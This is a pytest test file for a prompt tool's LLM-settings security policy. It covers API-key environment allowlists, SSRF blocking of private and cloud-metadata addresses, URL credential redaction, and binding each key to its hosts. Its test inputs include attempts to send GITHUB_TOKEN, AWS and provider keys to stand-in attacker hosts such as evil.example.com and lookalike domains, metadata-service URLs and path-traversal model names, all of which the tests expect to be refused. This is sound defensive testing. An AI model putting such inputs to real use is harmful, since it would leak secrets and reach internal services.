"""The server owner's rules for what a workflow's LLM settings may do: which environment variables
may be sent as keys, which hosts may be reached, credentials in URLs, reply size. Against a real
chat-completions server on 127.0.0.1."""
from __future__ import annotations

import json
import logging
import re
import socket
import threading
import time
import urllib.parse

import pytest

import tiny_prompts as tp
from motioncomic.prompts import policy
from motioncomic.prompts.cache import PromptCache
from motioncomic.prompts.expand import LLMSettings, expand_prompt
from motioncomic.prompts.http_client import LLMError, chat_completion

MSG = [{"role": "user", "content": "hi"}]


@pytest.fixture(scope="module")
def server():
    with tp.ChatServer() as srv:
        yield srv


@pytest.fixture(autouse=True)
def owner_rules(monkeypatch, tmp_path):
    """No owner configuration unless a test sets one (the developer's own file is not read)."""
    for var in ("MOTIONCOMIC_KEY_ENVS", "MOTIONCOMIC_KEY_HOSTS", "MOTIONCOMIC_LLM_HOSTS",
                "MOTIONCOMIC_LLM_ALLOW_PRIVATE"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("MOTIONCOMIC_CONFIG", str(tmp_path / "none.json"))


def expand(url, **kw):
    return expand_prompt("she waves", settings=LLMSettings(base_url=url, backoff=0.01, **kw), cache=PromptCache())


@pytest.mark.parametrize("name", ["HOME", "AWS_SECRET_ACCESS_KEY", "PATH"])
def test_workflow_cannot_name_other_environment_variables(server, monkeypatch, name):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "very-secret")
    before = len(server.requests)
    with pytest.raises(policy.PolicyError, match=f"api_key_env '{name}' is not allowed.*_API_KEY"):
        expand(server.base_url, model="normal", api_key_env=name)
    assert len(server.requests) == before  # nothing was sent anywhere


def test_key_names_the_owner_allows(server, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "k-openai")
    server.expected_key = "k-openai"
    assert expand(server.base_url, model="auth", api_key_env="OPENAI_API_KEY").source == "llm"
    monkeypatch.setenv("STUDIO_LLM_SECRET", "k-studio")
    with pytest.raises(policy.PolicyError):
        expand(server.base_url, model="auth", api_key_env="STUDIO_LLM_SECRET")
    monkeypatch.setenv("MOTIONCOMIC_KEY_ENVS", "OTHER,STUDIO_LLM_SECRET")
    server.expected_key = "k-studio"
    assert expand(server.base_url, model="auth", api_key_env="STUDIO_LLM_SECRET").source == "llm"


def test_owner_config_file(server, monkeypatch, tmp_path):
    cfg = tmp_path / "config.json"
    cfg.write_text('{"key_envs": ["STUDIO_LLM_SECRET"], "llm_hosts": ["10.0.0.0/8"]}')
    monkeypatch.setenv("MOTIONCOMIC_CONFIG", str(cfg))
    assert policy.allowed_key_env("STUDIO_LLM_SECRET") and not policy.allowed_key_env("HOME")
    policy.resolve_checked(policy.check_url("http://10.1.2.3:11434/v1"))  # no error: listed


def test_credentials_in_the_url_are_refused_and_never_shown(server, caplog):
    caplog.set_level(logging.DEBUG)
    with pytest.raises(policy.PolicyError) as err:
        expand(f"http://alice:hunter2@127.0.0.1:{server.server_address[1]}/v1", model="normal")
    assert "hunter2" not in str(err.value) and "alice" not in str(err.value)
    assert "hunter2" not in caplog.text
    assert policy.redact_url("https://u:p@host.example:8443/v1?key=s#x") == "https://host.example:8443/v1"


@pytest.mark.parametrize("url", ["http://10.0.0.1:11434/v1", "http://192.168.1.7/v1", "http://169.254.169.254/latest",
                                 "http://[fe80::1]/v1", "http://0.0.0.0:11434/v1"])
def test_private_and_link_local_addresses_need_the_owner(url):
    with pytest.raises(policy.PolicyError, match="private or link-local.*MOTIONCOMIC_LLM_HOSTS"):
        chat_completion(url, "m", MSG, timeout=0.5, retries=0)


# CGNAT / shared space (Alibaba Cloud's metadata at 100.100.100.200), the IETF block, and IPv6 forms that
# carry a non-public IPv4 address: 6to4, NAT64 (well-known and local-use prefix), Teredo, IPv4-mapped
NOT_PUBLIC = ["100.64.0.1", "100.100.100.200", "192.0.0.8", "2002:a9fe:a9fe::1", "2002:a00:1::1",
              "64:ff9b::a9fe:a9fe", "64:ff9b::6464:64c8", "64:ff9b:1::808:808",
              "2001:0:808:808:0:f227:5601:56fe", "2001:0:a9fe:a9fe:0:f227:f7f7:f7f7", "::ffff:100.100.100.200"]


@pytest.mark.parametrize("addr", NOT_PUBLIC)
def test_cgnat_and_tunnel_addresses_are_not_public(monkeypatch, addr):
    host = f"[{addr}]" if ":" in addr else addr
    with pytest.raises(policy.PolicyError, match="private or link-local.*MOTIONCOMIC_LLM_HOSTS"):
        policy.resolve_checked(policy.check_url(f"https://{host}/v1"))  # https: the address is the refusal
    monkeypatch.setenv("MOTIONCOMIC_LLM_HOSTS", addr.removeprefix("::ffff:"))  # the owner may still allow one
    policy.resolve_checked(policy.check_url(f"https://{host}/v1"))
    monkeypatch.delenv("MOTIONCOMIC_LLM_HOSTS")
    monkeypatch.setenv("MOTIONCOMIC_LLM_ALLOW_PRIVATE", "1")
    policy.resolve_checked(policy.check_url(f"https://{host}/v1"))


@pytest.mark.parametrize("addr", ["93.184.216.34", "2606:4700::1111", "2002:808:808::1", "64:ff9b::808:808",
                                  "::ffff:8.8.8.8"])
def test_public_addresses_and_tunnels_to_public_ones_pass(addr):
    import ipaddress

    assert policy.is_public(ipaddress.ip_address(addr))
    policy.resolve_checked(policy.check_url(f"https://[{addr}]/v1" if ":" in addr else f"https://{addr}/v1"))


def test_owner_can_allow_a_lan_server(monkeypatch):
    monkeypatch.setenv("MOTIONCOMIC_LLM_HOSTS", "192.168.1.0/24")
    policy.resolve_checked(policy.check_url("http://192.168.1.7/v1"))
    with pytest.raises(policy.PolicyError):
        policy.resolve_checked(policy.check_url("http://192.168.2.7/v1"))
    monkeypatch.setenv("MOTIONCOMIC_LLM_ALLOW_PRIVATE", "1")
    policy.resolve_checked(policy.check_url("http://192.168.2.7/v1"))


def test_public_hosts_only_over_https():
    with pytest.raises(policy.PolicyError, match="https only"):
        policy.resolve_checked(policy.check_url("http://93.184.216.34/v1"))
    policy.resolve_checked(policy.check_url("https://93.184.216.34/v1"))


def test_key_goes_over_plain_http_only_to_loopback(server, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "k-loop")
    server.expected_key = "k-loop"
    assert chat_completion(server.base_url, "auth", MSG, api_key="k-loop", timeout=5) == tp.CAPTION
    parts = policy.check_url("http://llm.lan/v1")
    assert not policy.key_may_go(parts, "192.168.1.7") and policy.key_may_go(parts, "127.0.0.1")
    # away from loopback only over https to a host the key is bound to (a built-in provider's here)
    openai = policy.check_url("https://api.openai.com/v1")
    assert policy.key_may_go(openai, "93.184.216.34", "OPENAI_API_KEY")
    assert not policy.key_may_go(openai, "93.184.216.34", "GITHUB_TOKEN")
    assert not policy.key_may_go(openai, None, "")  # a key without its name: loopback only
    assert not policy.key_may_go(policy.check_url("http://api.openai.com/v1"), "93.184.216.34", "OPENAI_API_KEY")


def test_huge_reply_is_cut_off(server):
    with pytest.raises(LLMError, match="larger than 4 MiB"):
        chat_completion(server.base_url, "huge", MSG, timeout=20, retries=2)
    assert server.calls["huge"] == 1  # not retried
    r = expand(server.base_url, model="huge", timeout=20)
    assert r.source == "fallback" and "larger than 4 MiB" in r.status


def test_status_and_cache_never_hold_credentials_or_query(server, tmp_path):
    cache = PromptCache(disk_dir=tmp_path / "c")
    r = expand_prompt("she waves", settings=LLMSettings(base_url=server.base_url + "?token=abc", model="normal"),
                      cache=cache)
    assert r.source == "llm" and "token=abc" not in r.status
    assert "abc" not in "".join(p.read_text() for p in (tmp_path / "c").glob("*.json"))


@pytest.mark.parametrize("name", ["/etc", "../../models", "~/.cache/huggingface"])
def test_local_backend_model_stays_inside_models_llm(models_dir, name):
    r = expand_prompt("she waves", settings=LLMSettings(backend="local", model=name), cache=PromptCache())
    assert r.source == "fallback" and "not a name inside the model folders" in r.status


# --------------------------------------------------------------------------- where each key may go
class Listener:
    """A TCP port that counts the connections made to it and hangs up: it plays the HTTP(S) proxy that
    remote hosts are reached through, so "refused before connecting" means it saw no connection."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.count = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.count += 1
            conn.close()

    def seen(self, wait: float = 2.0) -> int:
        end = time.monotonic() + wait
        while not self.count and time.monotonic() < end:
            time.sleep(0.02)
        return self.count


@pytest.fixture
def proxy(monkeypatch):
    lst = Listener()
    for var in ("HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("https_proxy", f"http://127.0.0.1:{lst.port}")
    monkeypatch.setenv("http_proxy", f"http://127.0.0.1:{lst.port}")
    yield lst
    lst.sock.close()


def send(url, name, key="secret-value-0123"):
    return chat_completion(url, "m", MSG, api_key=key, api_key_env=name, timeout=3, retries=0)


def owner_line(message: str) -> str:
    """The MOTIONCOMIC_KEY_HOSTS value a refusal tells the owner to set."""
    return re.search(r"MOTIONCOMIC_KEY_HOSTS=(\S+) in ComfyUI's environment", message).group(1)


@pytest.mark.parametrize("name,url", [
    ("GITHUB_TOKEN", "https://evil.example.com/v1"), ("AWS_SESSION_TOKEN", "https://evil.example.com/v1"),
    ("ANTHROPIC_API_KEY", "https://evil.example.com/v1"), ("OPENAI_API_KEY", "https://evil.example.com/v1"),
    ("OPENAI_API_KEY", "https://eu.api.openai.com/v1"),  # a subdomain is another host
    ("OPENAI_API_KEY", "https://api.openai.com.evil.example/v1"), ("DEEPSEEK_API_KEY", "https://api.openai.com/v1"),
    ("HF_TOKEN", "https://huggingface.co.evil.example/v1")])
def test_a_key_goes_only_to_its_hosts_refused_before_connecting(proxy, monkeypatch, name, url):
    monkeypatch.setenv(name, "secret-value-0123")
    host = urllib.parse.urlsplit(url).hostname
    with pytest.raises(policy.PolicyError) as err:
        send(url, name)
    msg = str(err.value)
    assert f"the API key in {name} may not be sent to '{host}'" in msg and "secret-value" not in msg
    assert owner_line(msg) == f"{name}={host}"  # exactly what the owner sets to allow it
    with pytest.raises(policy.PolicyError, match=f"API key in {name} may not be sent"):  # the node's path: no fallback
        expand(url, model="normal", api_key_env=name)
    time.sleep(0.2)
    assert proxy.count == 0  # nothing reached the network, not even the proxy


def test_the_owners_line_from_the_message_allows_it(proxy, monkeypatch):
    monkeypatch.setenv("MOTIONCOMIC_KEY_HOSTS", "STUDIO_API_KEY=llm.studio.example")
    with pytest.raises(policy.PolicyError) as err:
        send("https://evil.example.com/v1", "GITHUB_TOKEN")
    line = owner_line(str(err.value))
    assert line == "STUDIO_API_KEY=llm.studio.example;GITHUB_TOKEN=evil.example.com"  # the owner's entries kept
    time.sleep(0.1)
    assert proxy.count == 0
    monkeypatch.setenv("MOTIONCOMIC_KEY_HOSTS", line)
    with pytest.raises(LLMError, match="connection error"):  # on its way: the stand-in proxy hangs up
        send("https://evil.example.com/v1", "GITHUB_TOKEN")
    assert proxy.seen() == 1


@pytest.mark.parametrize("name,url", [("OPENAI_API_KEY", "https://api.openai.com/v1"),
                                      ("OPENAI_API_KEY", "https://API.OpenAI.com./v1"),
                                      ("DASHSCOPE_API_KEY", "https://dashscope-intl.aliyuncs.com/compatible-mode/v1"),
                                      ("MOONSHOT_API_KEY", "https://api.moonshot.ai/v1"),
                                      ("HF_TOKEN", "https://router.huggingface.co/v1")])
def test_well_known_provider_keys_go_to_their_official_hosts(proxy, name, url):
    with pytest.raises(LLMError, match="connection error"):
        send(url, name)
    assert proxy.seen() == 1


def test_owner_binds_keys_in_the_config_file(proxy, monkeypatch, tmp_path):
    cfg = tmp_path / "config.json"
    cfg.write_text(json.dumps({"key_hosts": {"STUDIO_LLM_SECRET": ["llm.studio.example"]}}))
    monkeypatch.setenv("MOTIONCOMIC_CONFIG", str(cfg))
    assert policy.allowed_key_env("STUDIO_LLM_SECRET")  # a bound name may be named as api_key_env
    assert policy.key_hosts("STUDIO_LLM_SECRET") == {"llm.studio.example"}
    with pytest.raises(policy.PolicyError) as err:
        send("https://other.example/v1", "STUDIO_LLM_SECRET")
    msg = str(err.value)
    assert "only to this machine (loopback) and llm.studio.example" in msg
    shown = re.search(r'"key_hosts": (\{.*\}) in ', msg).group(1)  # the file's form, merged
    assert json.loads(shown) == {"STUDIO_LLM_SECRET": ["llm.studio.example", "other.example"]}
    time.sleep(0.1)
    assert proxy.count == 0
    cfg.write_text(json.dumps({"key_hosts": json.loads(shown)}))
    with pytest.raises(LLMError, match="connection error"):
        send("https://other.example/v1", "STUDIO_LLM_SECRET")
    assert proxy.seen() == 1
    cfg.write_text(json.dumps({"key_hosts": "STUDIO_LLM_SECRET=a.example,b.example;X_TOKEN=c.example"}))
    assert policy.key_hosts("STUDIO_LLM_SECRET") == {"a.example", "b.example"}


def test_a_bound_key_still_needs_https_away_from_loopback(proxy, monkeypatch):
    monkeypatch.setenv("MOTIONCOMIC_KEY_HOSTS", "STUDIO_API_KEY=llm.lan")
    monkeypatch.setenv("MOTIONCOMIC_LLM_HOSTS", "llm.lan")
    with pytest.raises(policy.PolicyError, match="only over https or to this machine"):
        send("http://llm.lan/v1", "STUDIO_API_KEY")
    with pytest.raises(policy.PolicyError, match="without its variable's name goes only to this machine"):
        send("https://api.openai.com/v1", "")
    time.sleep(0.1)
    assert proxy.count == 0


@pytest.mark.parametrize("value,why", [("OPENAI_API_KEY", "not NAME=host"), ("bad name=x.example", "not NAME=host"),
                                       ("X_API_KEY=https://x.example/v1", "not a host name"),
                                       ("X_API_KEY=x.example:8443", "not a host name")])
def test_a_malformed_owner_setting_is_a_clear_error(monkeypatch, value, why):
    monkeypatch.setenv("MOTIONCOMIC_KEY_HOSTS", value)
    with pytest.raises(policy.PolicyError, match=f"MOTIONCOMIC_KEY_HOSTS: .*{why}"):
        policy.key_hosts("X_API_KEY")


def test_any_allowed_key_still_goes_to_this_machine(server, monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", "k-local")
    server.expected_key = "k-local"
    port = server.server_address[1]
    for url in (server.base_url, f"http://localhost:{port}/v1"):  # loopback by address or by name
        assert expand(url, model="auth", api_key_env="GITHUB_TOKEN").source == "llm"
        assert server.requests[-1]["headers"]["Authorization"] == "Bearer k-local"
